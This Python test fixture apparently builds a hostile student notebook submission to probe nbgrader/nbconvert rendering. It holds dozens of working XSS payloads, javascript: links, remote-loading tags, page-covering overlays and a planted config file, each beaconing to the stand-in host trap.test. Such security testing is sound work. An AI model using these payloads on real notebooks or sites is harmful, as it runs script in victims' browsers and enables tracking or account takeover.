"""What a student can write into a notebook so that a page with it runs a script, or asks another host.

Each trick asks for its own address at `TRAP`: when a page with it opens, or when its link is clicked.
"""

import json
from base64 import b64decode
from collections.abc import Iterator, Mapping
from copy import deepcopy
from pathlib import Path
from typing import Any
from urllib.parse import quote

TRAP = "http://trap.test/"

# HTML, as Markdown and outputs can hold it; {run} is a script, {url} an address.
RUNS = {
    "script": "<script>{run}</script>",
    "script in capitals": "<SCRIPT\n>{run}</SCRIPT >",
    "script from elsewhere": "<script src='{url}'></script>",
    "module": "<script type=module>{run}</script>",
    "handler of a picture": '<img src=x: onerror="{run}">',
    "handler with slashes": "<img/src='x:'/onerror=\"{run}\">",
    "handler of a drawing": '<svg onload="{run}"></svg>',
    "script of a drawing": "<svg><script>{run}</script></svg>",
    "animation": '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    "focus": '<p tabindex=0 id=f onfocus="{run}">x</p><script>f.focus()</script>',
    "details": '<details open ontoggle="{run}"><summary>x</summary></details>',
    "sound": '<audio src=x: onerror="{run}"></audio>',
    "film": '<video><source src=x: onerror="{run}"></video>',
    "style that ends": '<style onload="{run}"></style>',
    "transition": "<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{run}\">x</p>",
    "frame of a script": '<iframe src="javascript:{run}"></iframe>',
    "frame of a text": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "object of a script": '<object data="data:text/html,<script>{run}</script>"></object>',
    "embedded": '<embed src="data:text/html,<script>{run}</script>">',
    "formula": (
        "<math><annotation-xml encoding='text/html'><img src=x: onerror=\"{run}\"></annotation-xml></math>"
    ),
    "comment that ends": '<!--><img src=x: onerror="{run}">-->',
    "comment with a bang": '<!-- --!><img src=x: onerror="{run}"> -->',
    "title": '<title></title><img src=x: onerror="{run}"></title>',
    "plain text": '<noembed></noembed><img src=x: onerror="{run}">',
    "quotes": '<a title=\'"><img src=x: onerror={bare}>\'></a><img src=x: alt=`` onerror="{run}">',
    "shadow": '<div><template shadowrootmode=open><img src=x: onerror="{run}"></template></div>',
}
LOADS = {
    "picture": "<img src='{url}'>",
    "picture in capitals": "<IMG SRC='HTTP://trap.test/{name}'>",
    "picture of any protocol": "<img src='//trap.test/{name}'>",
    "picture with backslashes": "<img src='\\\\trap.test/{name}'>",
    "picture with a tab": "<img src='ht&#9;tp://trap.test/{name}'>",
    "picture behind blanks": "<img src='  &#1;{url}'>",
    "picture with a user": "<img src='http://a@trap.test/{name}'>",
    "set of pictures": "<img srcset='{url} 1x'>",
    "picture by choice": "<picture><source srcset='{url}'><img></picture>",
    "drawn picture": "<svg><image href='{url}'/></svg>",
    "drawn picture of old": "<svg><image xlink:href='{url}'/></svg>",
    "filter": "<svg><filter><feImage href='{url}'/></filter></svg>",
    "film": "<video src='{url}'></video>",
    "poster": "<video poster='{url}'></video>",
    "sound": "<audio src='{url}' preload=auto></audio>",
    "subtitles": (
        "<video><track default src='{url}'></video>"
        "<script>document.querySelector('track').track.mode='showing'</script>"
    ),
    "frame": "<iframe src='{url}'></iframe>",
    "object": "<object data='{url}'></object>",
    "embedded": "<embed src='{url}'>",
    "button": "<input type=image src='{url}'>",
    "table": "<table background='{url}'><tr><td>x</td></tr></table>",
    "style sheet": "<link rel=stylesheet href='{url}'>",
    "icon": "<link rel=preload as=image href='{url}'>",
    "import of a style": "<style>@import '{url}';</style>",
    "background": '<p style="background:url({url})">x</p>',
    "background in escapes": '<p style="background-image:u\\72l({url})">x</p>',
    "list": '<ul style="list-style-image:url({url})"><li>x</li></ul>',
    "border": '<p style="border:1px solid;border-image-source:url({url})">x</p>',
    "content": "<style>p::before{{content:url({url})}}</style><p>x</p>",
    "font": "<style>@font-face{{font-family:f;src:url({url})}}</style><p style='font-family:f'>x</p>",
    "mask": '<p style="mask-image:url({url});width:9px;height:9px">x</p>',
    "set in a style": "<p style=\"background:image-set('{url}' 1x)\">x</p>",
    "refresh": "<meta http-equiv=refresh content='0;url={url}'>",
    "base": "<base href='http://trap.test/'><img src='{name}'>",
}
CLICKED = {
    "script": '<a href="javascript:{run}">x</a>',
    "script in odd case": '<a href="JaVaScRiPt:{run}">x</a>',
    "script with a tab": '<a href="java&#9;script:{run}">x</a>',
    "script behind a control character": '<a href="&#1;javascript:{run}">x</a>',
    "script behind blanks": '<a href=" \n javascript:{run}">x</a>',
    "script in references": '<a href="&#x6a;avascript&colon;{run}">x</a>',
    "script that nbconvert uncovers": '<a href="files/javascript:{run}">x</a>',
    "handler": "<a href='#' onclick=\"{run}\">x</a>",
    "drawn link": '<svg><a href="javascript:{run}"><text y=20>x</text></a></svg>',
    "formula": "<form action='{url}'><button>x</button></form>",
    "button elsewhere": '<form><button formaction="javascript:{run}">x</button></form>',
    "ping": "<a href='#' ping='{url}'>x</a>",
}
MARKDOWN = {
    "picture": "![x]({url})",
    "picture by name": "![x][y]\n\n[y]: {url}",
    "picture in a table": "| a |\n| - |\n| ![x]({url}) |",
    "picture in a link": "[![x]({url})](http://example.org)",
    "picture after code": "```\n</pre>\n```\n<img src='{url}'>",
}
MARKDOWN_CLICKED = {
    "script": "[x](javascript:{run})",
    "script in odd case": "[x](<JAVASCRIPT:{run}>)",
    "script by name": "[x][y]\n\n[y]: javascript:{run}",
    "script that nbconvert uncovers": "[x](files/javascript:{run})",
}
# Class names and styles of the pages themselves, by which a link lies over everything.
COVERS = {
    "bootstrap": '<a href="http://trap.test/" class="modal-backdrop fade in" style="opacity:0">x</a>',
    "navigation": '<a href="http://trap.test/" class="navbar-fixed-top" style="height:9999px">x</a>',
    "style": '<a href="http://trap.test/" style="position:fixed;top:0;left:0;padding:9999px">x</a>',
    "padding": '<a href="http://trap.test/" style="padding:9999px">x</a>',
    "margin": (
        '<div style="margin-top:-9999px;position:relative">'
        '<a href="http://trap.test/" style="display:block;height:99999px">x</a></div>'
    ),
}


def html_tricks() -> dict[str, str]:
    """Return HTML that acts by itself, by a name that its address ends with."""
    return _named("runs", RUNS) | _named("loads", LOADS)


def markdown_tricks() -> dict[str, str]:
    """Return Markdown that acts by itself."""
    return _named("markdown", MARKDOWN)


def clicked_html() -> dict[str, str]:
    """Return HTML that acts when it is clicked."""
    return _named("clicked", CLICKED)


def clicked_markdown() -> dict[str, str]:
    """Return Markdown that acts when it is clicked."""
    return _named("clicked markdown", MARKDOWN_CLICKED)


def _named(kind: str, tricks: Mapping[str, str]) -> dict[str, str]:
    return {
        (name := f"{kind} {short}".replace(" ", "-")): _aimed(text, name) for short, text in tricks.items()
    }


def _aimed(text: str, name: str) -> str:
    """Return a trick that asks for its own address."""
    url = TRAP + quote(name)
    run = f"new/**/Image().src='{url}'"
    return text.format(url=url, name=name, run=run, bare=f"new/**/Image().src=`{url}`")


def outputs() -> dict[str, dict[str, Any]]:
    """Return outputs that act on nbconvert's own page, by their names."""
    run = {name: f"new Image().src='{TRAP}{name}'" for name in ("javascript", "isolated", "size", "text")}
    size = f"1 onerror=new/**/Image().src=`{TRAP}size`"
    shown = {
        "javascript": ({"application/javascript": run["javascript"]}, {}),
        "isolated": ({"text/html": f"<script>{run['isolated']}</script>"}, {"text/html": {"isolated": True}}),
        "size": ({"image/png": "AAAA"}, {"image/png": {"width": size}}),
        "text": ({"text/markdown": f"<script>{run['text']}</script>"}, {}),
    }
    return {
        name: {"output_type": "display_data", "data": data, "metadata": metadata}
        for name, (data, metadata) in shown.items()
    }


def hostile(release: Mapping[str, Any]) -> dict[str, Any]:
    """Return a released notebook with every trick in it, as Jupyter leaves it when all its cells have run."""
    notebook = deepcopy(dict(release))
    notebook["metadata"]["kernelspec"]["display_name"] = f"<img src='{TRAP}kernel'>"
    notebook["metadata"]["title"] = f"</title><img src='{TRAP}title'>"
    notebook["cells"] += _cells()
    return notebook


def _cells() -> Iterator[dict[str, Any]]:
    html = [*html_tricks().values(), *clicked_html().values(), *COVERS.values()]
    texts = [*html, *markdown_tricks().values(), *clicked_markdown().values()]
    for number, text in enumerate(texts):
        yield {"cell_type": "markdown", "id": f"trick-{number}", "metadata": {}, "source": text}
    shown = [{"output_type": "display_data", "data": {"text/html": text}, "metadata": {}} for text in html]
    shown += outputs().values()
    source = "from IPython.display import display\nimport json, sys\n"
    source += f"for data in json.loads({json.dumps([each['data'] for each in shown])!r}):\n"
    source += "    display(data, raw=True)\n"
    source += f"print(\"\\x1b[31m<img src='{TRAP}stderr'>\\x1b]8;;{TRAP}\\x07x\", file=sys.stderr)"
    yield {
        "cell_type": "code",
        "id": "tricks",
        "metadata": {"tags": [f"\"><img src='{TRAP}tag'>"]},
        "source": source,
        "execution_count": 1,
        "outputs": shown,
    }


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SCRIPT = f"new Image().src='{TRAP}file'"
DRAWING = (
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{SCRIPT}</script><rect width='9' height='9'/></svg>"
)
PAGE = f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{SCRIPT}</script></html>"
# What browsers make a page of, by the ends of names, and what they may take for one.
FILES = {
    **{
        f"page.{end}": PAGE
        for end in ("html", "htm", "xhtml", "xht", "shtml", "HTML", "png.html", "html.xyz")
    },
    **{
        f"page.{end}": PAGE
        for end in ("xml", "xsl", "mht", "pdf", "txt", "json", "csv", "md", "ipynb.html", "png")
    },
    **{f"page.{end}": SCRIPT for end in ("js", "mjs", "css", "wasm")},
    **{f"drawing.{end}": DRAWING for end in ("svg", "SVG", "svg.xml")},
    **dict.fromkeys(("page", "page.", "a page.html", "below/page.html"), PAGE),
}
SETTINGS = "from pathlib import Path\nPath(__file__).with_name('RAN').touch()"
ANSWER = "A picture ![attached](attachment:a%20b.png), another ![beside](plot.png) and ![drawn](drawing.svg)."


def hand_in(root: Path, student: str, release: Path) -> None:
    """Hand in a released notebook with every trick, files to open, and pictures in its written answer."""
    folder = root / "submitted" / student / release.parent.name
    notebook = hostile(json.loads(release.read_text()))
    answers = [cell for cell in notebook["cells"] if cell["cell_type"] == "markdown"]
    answer = next(cell for cell in answers if cell["metadata"].get("nbgrader", {}).get("solution"))
    answer |= {"source": ANSWER, "attachments": {"a b.png": {"image/png": PIXEL}}}
    (folder / "below").mkdir(parents=True)
    (folder / release.name).write_text(json.dumps(notebook))
    (folder / "nbgrader_config.py").write_text(SETTINGS)
    (folder / "plot.png").write_bytes(b64decode(PIXEL))
    for name, text in FILES.items():
        (folder / name).write_text(text)
